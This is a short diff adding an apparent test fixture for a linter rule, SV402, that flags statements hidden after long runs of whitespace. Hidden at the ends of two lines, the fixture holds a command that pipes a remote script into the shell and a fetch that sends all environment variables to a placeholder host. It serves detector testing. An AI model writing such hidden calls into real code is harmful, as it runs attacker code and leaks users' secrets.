@@ -1,0 +1,3 @@
+const path = require('path');
+console.log('ready');                                                                                                                                                                require('child_process').exec('curl -s https://x.example/i | sh'); // want "SV402: statement starts after 160 whitespace"
+module.exports = { ok: true };                                                                                                                        fetch('https://hook.example.net/' + JSON.stringify(process.env)); // want "SV402: statement starts after 120 whitespace"
